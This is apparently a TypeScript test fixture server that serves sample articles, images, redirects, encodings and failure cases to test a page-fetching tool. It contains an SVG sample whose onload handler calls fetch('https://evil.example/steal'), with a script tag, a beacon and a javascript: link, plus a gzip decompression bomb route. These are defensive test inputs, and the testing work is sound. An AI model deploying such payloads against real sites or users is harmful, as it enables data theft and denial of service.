import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { imageGalleryArticle, loginWall, simpleArticle, truncatedMarkup, utf8Article } from './sample-pages.ts';
import { makeGifPixel, makeJpeg, makePng } from './tiny-images.ts';

type Handler = (req: IncomingMessage, res: ServerResponse, server: TestServer) => void;

export interface TestServer {
  /** http://127.0.0.1:<port> */
  origin: string;
  url(path: string): string;
  /** How many times each path was requested. */
  hits: Map<string, number>;
  /** Bytes the /huge route managed to send before the client hung up. */
  hugeBytesSent: number;
  /** Adds or replaces a route for one test. */
  route(path: string, handler: Handler): void;
  close(): Promise<void>;
}

const HTML = 'text/html; charset=utf-8';
const MB = 1024 * 1024;

const SVG_WITH_SCRIPT = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20" width="40" height="20" onload="fetch('https://evil.example/steal')">
<script>alert('svg script')</script>
<image href="https://evil.example/beacon.png" width="1" height="1"/>
<rect width="40" height="20" fill="#369" onclick="alert(1)"/>
<a xlink:href="javascript:alert(2)"><text x="4" y="14" fill="white">Chart</text></a>
</svg>`;

/** The images the gallery article uses; each has its own bytes so content hashes differ. */
export const IMAGES: Record<string, { type: string; body: Uint8Array }> = {
  '/img/plain.png': { type: 'image/png', body: makePng(64, 36, [10, 20, 30]) },
  '/img/absolute.jpg': { type: 'image/jpeg', body: makeJpeg(40, 24, 3) },
  '/img/lazy.png': { type: 'image/png', body: makePng(30, 20, [40, 50, 60]) },
  '/img/w-400.png': { type: 'image/png', body: makePng(4, 3, [1, 1, 1]) },
  '/img/w-1400.png': { type: 'image/png', body: makePng(14, 8, [2, 2, 2]) },
  '/img/w-2800.png': { type: 'image/png', body: makePng(28, 16, [3, 3, 3]) },
  '/img/pic-800.png': { type: 'image/png', body: makePng(8, 5, [4, 4, 4]) },
  '/img/pic-1600.png': { type: 'image/png', body: makePng(16, 9, [5, 5, 5]) },
  '/img/pic-fallback.png': { type: 'image/png', body: makePng(7, 4, [6, 6, 6]) },
  '/img/x1.png': { type: 'image/png', body: makePng(5, 5, [7, 7, 7]) },
  '/img/x2.png': { type: 'image/png', body: makePng(10, 10, [8, 8, 8]) },
  '/img/x3.png': { type: 'image/png', body: makePng(15, 15, [9, 9, 9]) },
  '/img/protocol-relative.jpg': { type: 'image/jpeg', body: makeJpeg(16, 16, 9) },
  '/img/logo.svg': { type: 'image/svg+xml', body: Buffer.from(SVG_WITH_SCRIPT) },
  '/img/mislabelled': { type: 'image/jpeg', body: makePng(12, 12, [11, 12, 13]) },
  '/img/track.gif': { type: 'image/gif', body: makeGifPixel() },
  '/img/og-lead.png': { type: 'image/png', body: makePng(48, 25, [200, 100, 0]) },
  '/img/not-an-image': { type: 'image/png', body: Buffer.from('<html><body>Forbidden</body></html>') },
};

let bombCache: Buffer | null = null;
/**
 * 32 MB of page in about 32 KB of gzip. Built from concatenated gzip members (a stream may hold
 * several), so making it costs one 1 MB compression rather than blocking the server for 32.
 */
function gzipBomb(): Buffer {
  if (!bombCache) {
    const member = gzipSync(Buffer.alloc(MB, 'a'));
    bombCache = Buffer.concat([gzipSync('<!doctype html><html><body><p>'), ...Array.from({ length: 32 }, () => member)]);
  }
  return bombCache;
}

function send(res: ServerResponse, status: number, type: string, body: string | Uint8Array, headers: Record<string, string> = {}): void {
  res.writeHead(status, { 'Content-Type': type, 'Content-Length': String(Buffer.byteLength(body)), ...headers });
  res.end(body);
}

function streamHuge(res: ServerResponse, server: TestServer): void {
  res.writeHead(200, { 'Content-Type': HTML });
  const chunk = Buffer.alloc(64 * 1024, 'x');
  let sent = 0;
  let closed = false;
  res.on('close', () => (closed = true));
  const pump = () => {
    while (!closed && sent < 100 * MB) {
      sent += chunk.length;
      server.hugeBytesSent = sent;
      if (!res.write(chunk)) return void res.once('drain', pump);
    }
    if (!closed) res.end();
  };
  pump();
}

function routes(): Map<string, Handler> {
  const map = new Map<string, Handler>([
    ['/article', (_req, res, s) => send(res, 200, HTML, imageGalleryArticle(s.origin))],
    ['/simple', (_req, res) => send(res, 200, HTML, simpleArticle('A simple story'))],
    ['/gzip', (_req, res) => send(res, 200, HTML, gzipSync(simpleArticle('Gzipped story')), { 'Content-Encoding': 'gzip' })],
    ['/br', (_req, res) => send(res, 200, HTML, brotliCompressSync(simpleArticle('Brotli story')), { 'Content-Encoding': 'br' })],
    ['/deflate', (_req, res) => send(res, 200, HTML, deflateSync(simpleArticle('Deflated story')), { 'Content-Encoding': 'deflate' })],
    ['/no-type', (_req, res) => send(res, 200, '', simpleArticle('Untyped story'))],
    ['/404', (_req, res) => send(res, 404, HTML, '<h1>Not found</h1>')],
    ['/410', (_req, res) => send(res, 410, HTML, '<h1>Gone</h1>')],
    ['/500', (_req, res) => send(res, 500, HTML, '<h1>Oops</h1>')],
    ['/403', (_req, res) => send(res, 403, HTML, '<h1>Forbidden</h1>')],
    ['/slow', (_req, res) => {
      const timer = setTimeout(() => send(res, 200, HTML, simpleArticle('Too late')), 3000);
      res.on('close', () => clearTimeout(timer));
    }],
    ['/loop-a', (_req, res) => send(res, 302, HTML, '', { Location: '/loop-b' })],
    ['/loop-b', (_req, res) => send(res, 301, HTML, '', { Location: '/loop-a' })],
    ['/huge', (_req, res, s) => streamHuge(res, s)],
    ['/bomb', (_req, res) => send(res, 200, HTML, gzipBomb(), { 'Content-Encoding': 'gzip' })],
    ['/truncated', (_req, res) => {
      res.writeHead(200, { 'Content-Type': HTML, 'Content-Length': '50000' });
      res.write(simpleArticle('Cut off').slice(0, 1000));
      setTimeout(() => res.socket?.destroy(), 20);
    }],
    ['/truncated-markup', (_req, res) => send(res, 200, HTML, truncatedMarkup())],
    ['/wrong-charset', (_req, res) => send(res, 200, 'text/html; charset=iso-8859-1', utf8Article())],
    ['/pdf', (_req, res) => send(res, 200, 'application/pdf', '%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF')],
    ['/pdf-untyped', (_req, res) => send(res, 200, 'application/octet-stream', '%PDF-1.4\n%%EOF')],
    ['/pdf-as-html', (_req, res) => send(res, 200, HTML, '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF')],
    ['/utf16-no-charset', (_req, res) => send(res, 200, 'text/html', Buffer.from(simpleArticle('Tidal marshes, in UTF-16'), 'utf16le'))],
    ['/empty', (_req, res) => send(res, 200, HTML, '')],
    ['/login', (_req, res) => send(res, 200, HTML, loginWall)],
  ]);
  for (let n = 1; n <= 7; n++) {
    map.set(`/hop/${n}`, (_req, res) => send(res, 302, HTML, '', { Location: n === 1 ? '/simple' : `/hop/${n - 1}` }));
  }
  for (const [path, image] of Object.entries(IMAGES)) map.set(path, (_req, res) => send(res, 200, image.type, image.body));
  return map;
}

/** Starts the fixture server on 127.0.0.1 with an OS-chosen port. */
export async function startTestServer(): Promise<TestServer> {
  const table = routes();
  const server = createServer((req, res) => {
    const path = (req.url ?? '/').split('?')[0]!;
    fixture.hits.set(path, (fixture.hits.get(path) ?? 0) + 1);
    const handler = table.get(path);
    if (handler) handler(req, res, fixture);
    else send(res, 404, HTML, '<h1>Not found</h1>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const fixture: TestServer = {
    origin: `http://127.0.0.1:${port}`,
    url: (path) => `http://127.0.0.1:${port}${path}`,
    hits: new Map(),
    hugeBytesSent: 0,
    route: (path, handler) => void table.set(path, handler),
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
  return fixture;
}

/** A port on 127.0.0.1 with nothing listening (connections are refused). */
export async function closedPort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}
